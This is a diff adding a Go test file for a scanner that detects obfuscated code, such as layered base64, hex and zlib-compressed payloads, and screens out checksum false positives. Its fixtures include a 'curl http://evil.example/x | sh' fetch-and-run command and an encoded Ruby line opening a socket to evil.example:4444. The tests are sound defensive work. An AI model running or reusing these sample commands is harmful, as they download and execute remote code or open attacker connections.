@@ -0,0 +1,135 @@
+package heuristics
+
+import (
+	"bytes"
+	"compress/zlib"
+	"encoding/base64"
+	"encoding/hex"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// deflate compresses data with zlib
+func deflate(t *testing.T, data string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	w := zlib.NewWriter(&buf)
+	if _, err := w.Write([]byte(data)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// escapeHex writes every byte of s as a \xNN escape
+func escapeHex(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteString(`\x` + hex.EncodeToString([]byte{s[i]}))
+	}
+	return b.String()
+}
+
+func TestDecode(t *testing.T) {
+	code := `system("curl http://evil.example/x | sh")`
+	base64Code := base64.StdEncoding.EncodeToString([]byte(code))
+
+	tests := []struct {
+		name           string
+		blob           string
+		wantLayers     int
+		wantCode       bool
+		wantCompressed bool
+	}{
+		{"base64", base64Code, 1, true, false},
+		{"unpadded url-safe base64", base64.RawURLEncoding.EncodeToString([]byte(code)), 1, true, false},
+		{"hex", hex.EncodeToString([]byte(code)), 1, true, false},
+		{"escaped hex", escapeHex(code), 1, true, false},
+		{"base64 of hex", base64.StdEncoding.EncodeToString([]byte(hex.EncodeToString([]byte(code)))), 2, true, false},
+		{"compressed base64", base64.StdEncoding.EncodeToString(deflate(t, code)), 2, true, true},
+		{"three layers", base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(base64Code)))), 3, true, false},
+		{"too deep", base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(base64Code)))))), 3, false, false},
+		{"plain text", "not an encoded payload at all, just words", 0, false, false},
+	}
+	a := NewObfuscationAnalyzer()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			layers, decoded, compressed := a.decode([]byte(tt.blob), 0)
+			if gotCode := decoded != "" && codeRegex.MatchString(decoded); gotCode != tt.wantCode {
+				t.Errorf("decoded %q, want code: %v", decoded, tt.wantCode)
+			}
+			if tt.wantCode && layers != tt.wantLayers {
+				t.Errorf("layers = %d, want %d", layers, tt.wantLayers)
+			}
+			if compressed != tt.wantCompressed {
+				t.Errorf("compressed = %v, want %v", compressed, tt.wantCompressed)
+			}
+		})
+	}
+}
+
+func TestScanLine(t *testing.T) {
+	digest := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+	binary := make([]byte, 48)
+	for i := range binary {
+		binary[i] = byte(i*151 + 7)
+	}
+	tests := []struct {
+		name string
+		line string
+		want []string
+	}{
+		{"labelled sha256", `  sha256: "` + digest + `"`, nil},
+		{"checksum constant", `CHECKSUM = '` + digest + `'`, nil},
+		{"sha256 prefix", `url "https://example.com/lib.tar.gz", sha256:` + digest, nil},
+		{"unlabelled digest", `DATA = "` + digest + `"`, []string{RuleHexBlob}},
+		{"longer than a digest", `sha256 = "` + digest + digest + `"`, []string{RuleHexBlob}},
+		{"separator", "# " + strings.Repeat("-", 78), nil},
+		{"underscore separator", "#" + strings.Repeat("_", 64), nil},
+		{"long identifier", "def test_should_return_the_correct_value_when_given_a_valid_argument", nil},
+		{"long constant", "ActiveRecordConnectionAdapterPostgreSQLDatabaseStatementsHelper.new", nil},
+		{"long path", `require "active_support/core_ext/object/json/some_more_path/component"`, nil},
+		{"encoded text", `MSG = "` + base64.StdEncoding.EncodeToString([]byte("a message that is not code, encoded for no reason")) + `"`, []string{RuleBase64Blob}},
+		{"encoded binary", `KEY = "` + base64.StdEncoding.EncodeToString(binary) + `"`, []string{RuleBase64Blob}},
+		{"url-safe encoded binary", `KEY = "` + base64.RawURLEncoding.EncodeToString(binary) + `"`, []string{RuleBase64Blob}},
+		{"encoded code", `eval(Base64.decode64("` + base64.StdEncoding.EncodeToString([]byte("require 'socket'; TCPSocket.new('evil.example', 4444)")) + `"))`, []string{RuleEncodedCode}},
+	}
+	a := NewObfuscationAnalyzer()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, f := range a.scanLine("file.rb", 1, tt.line) {
+				got = append(got, f.RuleID)
+			}
+			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
+				t.Errorf("rules = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestTruncate(t *testing.T) {
+	tests := []struct {
+		s    string
+		n    int
+		want string
+	}{
+		{"short", 10, "short"},
+		{"multi\n  line", 20, "multi line"},
+		{"abcdef", 3, "abc..."},
+		{"ééé", 3, "é..."},
+		{"日本語", 4, "日..."},
+	}
+	for _, tt := range tests {
+		got := truncate(tt.s, tt.n)
+		if got != tt.want {
+			t.Errorf("truncate(%q, %d) = %q, want %q", tt.s, tt.n, got, tt.want)
+		}
+		if !utf8.ValidString(got) {
+			t.Errorf("truncate(%q, %d) = %q is not valid UTF-8", tt.s, tt.n, got)
+		}
+	}
+}